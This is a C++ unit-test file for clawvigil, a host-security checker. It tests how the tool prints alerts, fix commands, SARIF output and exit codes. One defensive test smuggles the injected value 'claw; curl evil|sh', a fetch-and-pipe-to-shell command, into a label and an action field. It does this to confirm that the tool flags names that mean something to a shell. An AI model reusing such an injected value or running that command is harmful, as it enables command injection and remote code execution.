// What `clawvigil check` shows of a document, to people and to programs.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <regex>
#include <set>

#include "collectors/workspace_families.h"
#include "exporter/cli/check_document.h"
#include "exporter/cli/check_explain.h"
#include "exporter/cli/check_sarif.h"
#include "exporter/cli/check_text.h"
#include "exporter/cli/check_unknown.h"
#include "exporter/cli/runbook.h"
#include "exporter/cli/status_document.h"
#include "tests/support/build_paths.h"
#include "tests/support/temp_dir.h"

namespace clawvigil::cli {
namespace {

using nlohmann::json;
using testing::HasSubstr;
using testing::Not;

constexpr const char* kDocument = R"({
  "version": 1, "host": "vps", "time": "2026-11-22T04:00:00Z",
  "summary": {"ok": 1, "broken": 3, "pending": 1, "unknown": 3, "accepted": 0, "silenced": 1},
  "rules": [
    {"alertname": "NoSwap", "area": "host", "control": "P2", "severity": "info",
     "state": "broken", "value": 0, "labels": {}, "summary": "There is no swap",
     "description": "", "action": "As root: `fallocate -l 2G /swapfile`", "reason": ""},
    {"alertname": "SecretInWorkspace", "area": "secrets", "control": "S3", "severity": "warning",
     "state": "broken", "value": 1, "labels": {"home": "claw", "location": "memory"},
     "summary": "A secret is in the memory of claw", "description": "Found 1, expected 0.",
     "action": "Move it (`openclaw secrets configure`).", "reason": ""},
    {"alertname": "GatewayExposed", "area": "exposure", "control": "X1", "severity": "critical",
     "state": "broken", "value": 1, "labels": {"home": "claw", "instance": "a:1"},
     "summary": "The gateway of claw can be reached from outside this machine",
     "description": "A socket listens beyond loopback (measured 1, expected 0).",
     "action": "As claw: `openclaw config set gateway.bind loopback && openclaw gateway restart`. Then check: `ss -tlnp`",
     "reason": "", "since": "2026-11-22T03:30:00Z"},
    {"alertname": "GatewayDown", "area": "host", "control": "H7", "severity": "warning",
     "state": "pending", "value": 0, "labels": {"home": "claw"}, "summary": "It does not answer",
     "description": "", "action": "", "reason": "", "since": "2026-11-22T03:59:30Z"},
    {"alertname": "BanSurge", "area": "access", "control": "A6", "severity": "warning",
     "state": "unknown", "value": null, "labels": {}, "summary": "x",
     "reason": "needs history: it looks back 1h, and too little is recorded yet"},
    {"alertname": "GatewayAuthLockout", "area": "access", "control": "A5", "severity": "warning",
     "state": "unknown", "value": null, "labels": {}, "summary": "x",
     "reason": "needs history: it looks back 15m, and too little is recorded yet"},
    {"alertname": "FirewallInactive", "area": "exposure", "control": "X4", "severity": "critical",
     "state": "unknown", "value": null, "labels": {}, "summary": "x",
     "reason": "the collector firewall could not determine it: run: sudo clawvigil probe nftables"},
    {"alertname": "DmScopeShared", "area": "access", "control": "A4", "severity": "warning",
     "state": "silenced", "value": 1, "labels": {"home": "claw"}, "summary": "Senders share a session",
     "reason": "family", "until": "2026-12-01T00:00:00Z"},
    {"alertname": "DiskNearlyFull", "area": "host", "control": "P2", "severity": "warning",
     "state": "ok", "value": 0.4, "labels": {}, "summary": "x"}],
  "findings": [{"family": "clawvigil_secret_findings", "home": "claw", "location": "memory",
                "rule": "openai", "file": "/home/claw/a b/MEMORY.md", "line": 14}],
  "workspace": {"commits": {"agent": 5}, "changes": {}}})";

CheckDocument document() {
  const auto read = read_check_document(json::parse(kDocument));
  EXPECT_TRUE(read);
  return *read;
}

const host::TimeZone& utc() {
  static const host::TimeZone zone = *host::TimeZone::load("UTC");
  return zone;
}

std::string shown(std::size_t columns, bool colours = false) {
  return check_text(document(),
                    {.zone = utc(), .live = true, .colours = colours, .columns = columns});
}

TEST(CheckText, OfADocument) {
  EXPECT_EQ(shown(80), R"(vps, 2026-11-22 04:00
as the running clawvigil sees it

CRITICAL  1
  The gateway of claw can be reached from outside this machine
    A socket listens beyond loopback (measured 1, expected 0).
    As claw:
      openclaw config set gateway.bind loopback && openclaw gateway restart
    Then check:
      ss -tlnp
    GatewayExposed, control X1, exposure, since 2026-11-22 03:30

WARNING  1
  A secret is in the memory of claw
    Found 1, expected 0.
      /home/claw/a b/MEMORY.md:14 openai
    Move it (`openclaw secrets configure`).
    SecretInWorkspace, control S3, secrets

INFO  1
  There is no swap
    As root:
      fallocate -l 2G /swapfile
    NoSwap, control P2, host

BEGINNING  told when it lasts
  It does not answer
    warning, GatewayDown, control H7, host, since 2026-11-22 03:59

UNKNOWN  3 rules cannot be judged
  firewall: run: sudo clawvigil probe nftables
    FirewallInactive
  Too little is recorded yet: they look back, up to 1h, at what a running
  clawvigil has seen
    BanSurge, GatewayAuthLockout

SILENCED  1
  Senders share a session
    DmScopeShared, until 2026-12-01 00:00: family

OK  1 rule is kept
  host      DiskNearlyFull

LAST 24 HOURS  in the agents' repositories
  Commits: 5 by the agent

Broken: 1 critical, 1 warning, 1 info; 1 pending; 3 unknown; 1 silenced; 1 ok.
More about one: clawvigil check --explain NAME
)");
}

TEST(CheckText, KeepsCommandsWholeOnANarrowTerminal) {
  const std::string text = shown(40);
  EXPECT_THAT(text,
              HasSubstr("  The gateway of claw can be reached\n  from outside this machine\n"));
  EXPECT_THAT(text,
              HasSubstr("\n      openclaw config set gateway.bind loopback && openclaw gateway "
                        "restart\n"));
}

TEST(CheckText, IsColouredLineByLine) {
  EXPECT_THAT(shown(80), Not(HasSubstr("\033")));
  const std::string text = shown(40, true);
  EXPECT_THAT(text, HasSubstr("\033[1;31mCRITICAL\033[0m"));
  EXPECT_THAT(text, HasSubstr("  \033[1mThe gateway of claw can be reached\033[0m\n"));
  EXPECT_THAT(text, HasSubstr("    \033[2mDmScopeShared, until 2026-12-01\033[0m\n"));
  static const std::regex colour("\033\\[[0-9;]*m");
  EXPECT_EQ(std::regex_replace(text, colour, ""), shown(40));
}

TEST(CheckText, OfNothingBroken) {
  json calm = json::parse(kDocument);
  restrict_to(calm, "host");
  calm["rules"].erase(0);
  calm["rules"].erase(0);
  const auto read = read_check_document(calm);
  ASSERT_TRUE(read);
  EXPECT_EQ(check_text(*read, {.zone = utc(), .quiet = true}),
            "vps, 2026-11-22 04:00\none look of its own: no clawvigil is running here\n\n"
            "Nothing is broken; 1 ok.\n");
  EXPECT_EQ(exit_code_of(*read), 0);
}

TEST(CheckText, SaysOnceWhatIsTheSameForSeveral) {
  json twice = json::parse(kDocument);
  restrict_to(twice, "host");
  json other = twice["rules"][0];
  other["summary"] = "Nor is there any elsewhere";
  twice["rules"].insert(twice["rules"].begin() + 1, other);
  EXPECT_THAT(
      check_text(*read_check_document(twice), {.zone = utc()}),
      HasSubstr("INFO  2\n  There is no swap\n  Nor is there any elsewhere\n    As root:\n"));
}

TEST(CheckText, OffersNoCommandWithANameThatMeansSomethingToAShell) {
  json hostile = json::parse(kDocument);
  hostile["rules"][2]["labels"]["home"] = "claw; curl evil|sh";
  hostile["rules"][2]["action"] = "As claw; curl evil|sh: `openclaw gateway restart`";
  const std::string text = check_text(*read_check_document(hostile), {.zone = utc()});
  EXPECT_THAT(text, HasSubstr("    As claw; curl evil|sh: `openclaw gateway restart`\n"
                              "    A name in it has unusual characters: read before"));
}

TEST(CheckDocument, ToleratesAnOlderDaemon) {
  const auto read = read_check_document(json::parse(R"({"rules": [{"alertname": "A"}, 7]})"));
  ASSERT_TRUE(read);
  ASSERT_EQ(read->entries.size(), 1U);
  EXPECT_EQ(check_text(*read, {.zone = utc()}).find("OK"), std::string::npos);
  for (const char* const wrong : {"null", "[]", "{}", R"({"rules": 1})"}) {
    EXPECT_FALSE(read_check_document(json::parse(wrong))) << wrong;
  }
}

TEST(CheckDocument, DecidesTheExitCode) {
  CheckDocument all = document();
  EXPECT_EQ(exit_code_of(all), 2);
  std::erase_if(all.entries, [](const CheckEntry& entry) { return entry.severity == "critical"; });
  EXPECT_EQ(exit_code_of(all), 1);
  std::erase_if(all.entries, [](const CheckEntry& entry) { return entry.state == "broken"; });
  EXPECT_EQ(exit_code_of(all), 3);
}

TEST(Explain, ShowsEveryBundledRule) {
  const auto rules = alerts::load_rules({}, {});
  ASSERT_TRUE(rules);
  for (const alerts::RuleFile& file : (*rules)->files) {
    for (const alerts::RuleGroup& group : file.groups) {
      for (const alerts::Rule& rule : group.rules) {
        const auto found = find_rule(**rules, rule.alertname);
        ASSERT_TRUE(found);
        const std::string text = explain_text(*found, {}, nullptr, {.zone = utc()});
        for (const char* const part :
             {"  Control ", "  Means\n", "  Check\n", "  Repair\n", "  Accept\n", "alertname="}) {
          EXPECT_THAT(text, HasSubstr(part)) << rule.alertname;
        }
        EXPECT_THAT(text, Not(HasSubstr("**"))) << rule.alertname;
        EXPECT_THAT(text, Not(HasSubstr("](#"))) << rule.alertname;
      }
    }
  }
}

TEST(Explain, TellsStateThresholdAndWays) {
  AlertsConfig config;
  config.overrides["DiskNearlyFull"].thresholds["threshold"] = "0.2";
  config.overrides["NoSwap"].enabled = false;
  const auto rules = alerts::load_rules({}, config);
  ASSERT_TRUE(rules);
  const CheckDocument all = document();
  const auto disk = find_rule(**rules, "disknearlyfull");
  ASSERT_TRUE(disk);
  const std::string text = explain_text(*disk, config, &all, {.zone = utc(), .live = true});
  EXPECT_THAT(text,
              HasSubstr("  Control     P2: the gateway has limits and does not reach them\n"));
  EXPECT_THAT(text, HasSubstr("  Threshold   0.2\n"));
  EXPECT_THAT(text, HasSubstr("  Changed     by your configuration\n"));
  EXPECT_THAT(text, HasSubstr("  State       ok, measured 0.4\n"));
  EXPECT_THAT(text, HasSubstr("alerts: {rules: {DiskNearlyFull: {threshold: 0.2, bytes: "));
  const auto exposed = find_rule(**rules, "GatewayExposed");
  EXPECT_THAT(
      explain_text(*exposed, config, &all, {.zone = utc(), .live = true}),
      HasSubstr("  State       broken since 2026-11-22 03:30, measured 1: The gateway of claw can\n"
                "              be reached from outside this machine\n"));
  EXPECT_THAT(explain_text(*exposed, config, &all, {.zone = utc()}),
              HasSubstr("accept finding GatewayExposed home=claw --for=30d"));
  EXPECT_THAT(explain_text(*find_rule(**rules, "NoSwap"), config, nullptr, {.zone = utc()}),
              HasSubstr("switched off by your configuration"));
  EXPECT_THAT(explain_text(*find_rule(**rules, "ClawvigilDown"), config, &all, {.zone = utc()}),
              HasSubstr("not judged here"));
  EXPECT_EQ(find_rule(**rules, "GatewayExpose").error().message,
            "there is no rule \"GatewayExpose\"; did you mean GatewayExposed? (see clawvigil rules "
            "list)");
}

TEST(Sarif, OfADocument) {
  const auto rules = alerts::load_rules({}, {});
  ASSERT_TRUE(rules);
  const json run = sarif_log(document(), **rules)["runs"][0];
  const json& results = run["results"];
  ASSERT_EQ(results.size(), 4U);  // with the silenced one
  EXPECT_EQ(results[0]["level"], "note");
  EXPECT_EQ(results[1]["locations"], json::parse(R"([{"physicalLocation": {
      "artifactLocation": {"uri": "home/claw/a%20b/MEMORY.md", "uriBaseId": "HOST"},
      "region": {"startLine": 14}}}])"));
  EXPECT_EQ(results[2]["locations"][0]["logicalLocations"], json::parse(R"([
      {"name": "claw", "fullyQualifiedName": "vps/claw", "kind": "resource"}])"));
  const json& file = results[2]["locations"][0]["physicalLocation"];
  EXPECT_EQ(file["artifactLocation"], json::parse(R"({
      "uri": "usr/share/clawvigil/rules/exposure.yml", "uriBaseId": "HOST"})"));
  EXPECT_GT(file["region"]["startLine"], 1);
  EXPECT_EQ(results[2]["level"], "error");
  EXPECT_EQ(results[2]["suppressions"], json::array());
  EXPECT_EQ(results[3]["suppressions"], json::parse(R"([{"kind": "external", "status": "accepted",
      "justification": "silenced until 2026-12-01T00:00:00Z: family"}])"));
  const json& notifications = run["invocations"][0]["toolExecutionNotifications"];
  EXPECT_EQ(notifications.size(), 3U);
  const json& known = run["tool"]["driver"]["rules"];
  EXPECT_EQ(known.size(), (*rules)->size());
  for (const json& result : results) {
    EXPECT_EQ(known[result["ruleIndex"].get<std::size_t>()]["id"], result["ruleId"]);
  }
  const json& exposed = known[results[2]["ruleIndex"].get<std::size_t>()];
  EXPECT_EQ(exposed["helpUri"],
            "https://github.com/clawvigil/clawvigil/blob/main/alerts/RUNBOOK.md#gatewayexposed");
  EXPECT_EQ(exposed["properties"]["security-severity"], "9.0");
  EXPECT_TRUE(exposed["help"]["markdown"].get<std::string>().starts_with("**Means.**"));
}

TEST(Sarif, ACommitIsNoPath) {
  json one = json::parse(kDocument);
  json& entry = one["rules"][1];
  json& finding = one["findings"][0];
  entry["labels"]["location"] = finding["location"] = "git_history";
  finding["file"] = "/home/claw/notes commit 3f2a91c07d4e .env";
  const json result = sarif_log(*read_check_document(one), {})["runs"][0]["results"][1];
  EXPECT_THAT(result["message"]["text"].get<std::string>(),
              HasSubstr("(openai, /home/claw/notes commit 3f2a91c07d4e .env:14)\n"));
  const json& place = result["locations"][0];
  EXPECT_EQ(place["logicalLocations"][0]["fullyQualifiedName"], "vps/claw");
  EXPECT_EQ(place["physicalLocation"]["artifactLocation"]["uri"], "usr/share/clawvigil/rules/");
}

TEST(Sarif, FingerprintsDoNotFollowWhatMayChange) {
  const auto prints = [](const json& from) {
    std::vector<std::string> all;
    const json log = sarif_log(*read_check_document(from), {});
    for (const json& result : log["runs"][0]["results"]) {
      EXPECT_NE(result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "");
      all.push_back(result["partialFingerprints"]["clawvigil/v1"]);
    }
    return all;
  };
  json one = json::parse(kDocument);
  const auto before = prints(one);
  EXPECT_EQ(std::set(before.begin(), before.end()).size(), 4U);
  EXPECT_EQ(before[2], "169fc8f2a4919ec2e1d4347a3007f1e0");
  one["rules"][2]["labels"]["instance"] = "b:2";
  one["rules"][2]["value"] = 7;
  one["findings"][0]["line"] = 20;
  EXPECT_EQ(prints(one), before);
  one["rules"][2]["labels"]["home"] = "other";
  EXPECT_NE(prints(one)[2], before[2]);
}

void flatten(const json& value, const std::string& path, std::set<std::string>& out) {
  static const std::set<std::string> open{"rules[].labels", "workspace.commits",
                                          "workspace.changes"};
  if (open.contains(path)) {
    out.insert(path + ".*");
  } else if (value.is_object()) {
    for (const auto& [key, child] : value.items()) {
      flatten(child, path.empty() ? key : path + "." + key, out);
    }
  } else if (value.is_array()) {
    for (const json& child : value) flatten(child, path + "[]", out);
  } else {
    out.insert(path);
  }
}

// What docs/check.md lists is what there is.
TEST(CheckJson, IsDocumented) {
  alerts::Posture posture;
  posture.entries.emplace_back().alertname = "A";
  Batch batch;
  batch.finding(workspace_families::kDayChanges, "3f2a91c07d4e .env", 0, "claw", "notes", "env");
  Snapshot snapshot;
  snapshot.batches.push_back(std::make_shared<const Batch>(std::move(batch)));
  std::set<std::string> found;
  flatten(status_document(posture, snapshot), "", found);
  for (const char* const label : {"home", "repo", "file_class"}) {
    found.erase(std::string("findings[].") + label);
  }
  found.insert("findings[].*");
  std::set<std::string> documented;
  const std::string text =
      test::read_all(std::filesystem::path(CLAWVIGIL_SOURCE_DIR) / "docs" / "check.md");
  static const std::regex row(R"(\n\| `([^`]+)` \|)");
  for (std::sregex_iterator match(text.begin(), text.end(), row), end; match != end; ++match) {
    documented.insert((*match)[1]);
  }
  EXPECT_EQ(documented, found);
}

}  // namespace
}  // namespace clawvigil::cli
